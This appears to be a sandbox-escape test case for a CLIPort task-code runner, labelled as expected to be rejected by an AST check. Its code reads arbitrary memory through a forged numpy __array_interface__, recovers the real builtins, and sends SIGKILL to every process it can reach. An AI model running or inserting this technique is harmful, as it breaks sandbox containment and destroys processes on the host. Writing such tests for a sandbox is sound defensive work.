# class: escape: raw memory -> signals to every process it can name (kill -1, the parent, the zygote) | stopped by: AST check (no id); behind it the PID namespace and seccomp (no kill)
# mode: task
# expect: rejected
# reject: name 'id' is not available to task code
import numpy as np
from cliport.tasks.task import Task
from cliport.utils import utils


def peek(addr, n):
    """n machine words at addr: a stand-in instance (its class from type(np)) with a crafted
    __array_interface__ is read by numpy as an array over any address."""
    RO = type(np)
    fake = RO("mem", {"__array_interface__": {"data": (addr, False), "shape": (n,), "typestr": "<u8", "version": 3}})
    return np.asarray(fake)


def obj_at(addr):
    box = [None]
    cell = peek(int(peek(id(box) + 24, 1)[0]), 1)  # the list's ob_item
    cell[0] = addr
    return box[0]


def real_builtins():
    # CPython 3.11 PyFunctionObject: refcnt, type, func_globals; a stand-in closure's globals are a real module's
    return obj_at(int(peek(id(utils.get_colors) + 16, 1)[0]))["__builtins__"]


class Signals(Task):
    def __init__(self):
        super().__init__()
        self.lang_template = "put the block down"

    def reset(self, env):
        super().reset(env)
        os = real_builtins()["__import__"]("os")
        errors = []
        for pid in (-1, os.getppid(), 1, 2, 3):
            try:
                os.kill(pid, 9)
            except Exception as e:
                errors.append(str(e)[:40])
        raise ValueError("signals: " + " | ".join(errors))
